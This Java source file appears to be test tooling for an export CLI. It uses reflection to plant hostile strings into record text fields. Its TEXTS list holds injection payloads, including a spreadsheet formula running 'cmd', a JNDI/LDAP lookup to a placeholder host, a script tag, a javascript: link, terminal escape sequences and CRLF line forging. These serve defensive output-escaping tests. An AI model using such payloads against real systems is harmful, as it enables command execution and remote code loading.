package org.stormspec.export.cli;

import java.lang.reflect.Constructor;
import java.lang.reflect.RecordComponent;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.SortedMap;
import java.util.SortedSet;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.function.Predicate;
import org.jspecify.annotations.Nullable;
import org.stormspec.model.record.ModelRecord;

/**
 * Puts hostile words into the text fields of a model. The fields are found by reflection, so that a
 * new one is hostile, too. What refers to another record stays, and so does what its record
 * refuses.
 */
final class HostileWords {

    /** Is in every hostile text, to find it again. */
    static final String MARK = "HOSTILE";

    /** Begins the line that a line break would forge. */
    static final String FORGED = "FORGED";

    static final List<String> TEXTS =
            List.of(
                    "=cmd|'/C calc'!A0 " + MARK,
                    MARK + "\u001b]0;x\u0007\u001b[2J\u009b31m\u0085\u007f",
                    MARK + "\u202egpj.exe\u2066\u200f",
                    MARK + "\r\n" + FORGED + " line\n" + FORGED + " again",
                    "\"><script>" + MARK + "</script><!-- ]]> --> &x; ${jndi:ldap://x.invalid/a}",
                    "{{"
                            + MARK
                            + "}} `a` | b | [x](javascript:alert(1)) ![y](http://x.invalid) _z_",
                    MARK + "\"]; evil [label=\"x\\\\",
                    "- " + MARK + ": &a *b !!c 'd' # e %f @g",
                    MARK + "x".repeat(3000),
                    "\u0000\u0001" + MARK + "\u2028" + FORGED);

    /** Where a text stands. */
    record Place(Class<?> type, String component) {}

    private final Set<String> names = new HashSet<>();
    private final Predicate<Place> chosen;
    private final Set<Place> planted = new LinkedHashSet<>();
    private int next;

    private HostileWords(List<ModelRecord> model, Predicate<Place> chosen) {
        this.chosen = chosen;
        model.forEach(record -> collectNames(record.key()));
    }

    /**
     * A hostile model.
     *
     * @param records of the model
     * @param planted where hostile words are now
     */
    record Planted(List<ModelRecord> records, Set<Place> planted) {}

    static Planted into(List<ModelRecord> model, int first, Predicate<Place> chosen) {
        HostileWords words = new HostileWords(model, chosen);
        words.next = first;
        List<ModelRecord> records = new ArrayList<>();
        model.forEach(record -> records.add((ModelRecord) words.plantRecord((Record) record)));
        return new Planted(records, words.planted);
    }

    private void collectNames(Object key) {
        for (RecordComponent component : key.getClass().getRecordComponents()) {
            if (read((Record) key, component) instanceof String name) {
                names.add(name);
            }
        }
    }

    private @Nullable Object plant(@Nullable Object value, Place place) {
        return switch (value) {
            case String text -> plantText(text, place);
            case Optional<?> optional -> optional.map(inner -> plant(inner, place));
            case SortedMap<?, ?> map -> {
                SortedMap<Object, @Nullable Object> copy = new TreeMap<>();
                map.forEach((key, inner) -> copy.put(key, plant(inner, place)));
                yield copy;
            }
            case Map<?, ?> map -> {
                Map<Object, @Nullable Object> copy = new TreeMap<>();
                map.forEach((key, inner) -> copy.put(key, plant(inner, place)));
                yield copy;
            }
            case List<?> list -> list.stream().map(inner -> plant(inner, place)).toList();
            case SortedSet<?> set -> {
                SortedSet<@Nullable Object> copy = new TreeSet<>();
                set.forEach(inner -> copy.add(plant(inner, place)));
                yield copy;
            }
            case Set<?> set -> {
                Set<@Nullable Object> copy = new LinkedHashSet<>();
                set.forEach(inner -> copy.add(plant(inner, place)));
                yield copy;
            }
            case Record record -> plantRecord(record);
            case null, default -> value;
        };
    }

    private String plantText(String text, Place place) {
        if (names.contains(text) || !chosen.test(place)) {
            return text;
        }
        planted.add(place);
        return TEXTS.get(Math.floorMod(next++, TEXTS.size()));
    }

    /** Each field alone, so that one that is refused does not save the others. */
    private Record plantRecord(Record record) {
        RecordComponent[] components = record.getClass().getRecordComponents();
        Record result = record;
        for (int i = 0; i < components.length; i++) {
            Place place = new Place(record.getClass(), components[i].getName());
            Set<Place> before = new LinkedHashSet<>(planted);
            @Nullable Object[] values = new @Nullable Object[components.length];
            for (int j = 0; j < components.length; j++) {
                values[j] = read(result, components[j]);
            }
            try {
                values[i] = plant(values[i], place);
                result = make(result, components, values);
            } catch (IllegalArgumentException
                    | ReflectiveOperationException
                    | ClassCastException
                    | NullPointerException refused) {
                planted.retainAll(before);
            }
        }
        return result;
    }

    private static Record make(
            Record record, RecordComponent[] components, @Nullable Object[] values)
            throws ReflectiveOperationException {
        Class<?>[] types = new Class<?>[components.length];
        for (int i = 0; i < types.length; i++) {
            types[i] = components[i].getType();
        }
        Constructor<?> constructor = record.getClass().getDeclaredConstructor(types);
        constructor.setAccessible(true);
        return (Record) constructor.newInstance(values);
    }

    private static @Nullable Object read(Record record, RecordComponent component) {
        try {
            component.getAccessor().setAccessible(true);
            return component.getAccessor().invoke(record);
        } catch (ReflectiveOperationException impossible) {
            throw new IllegalStateException(impossible);
        }
    }
}
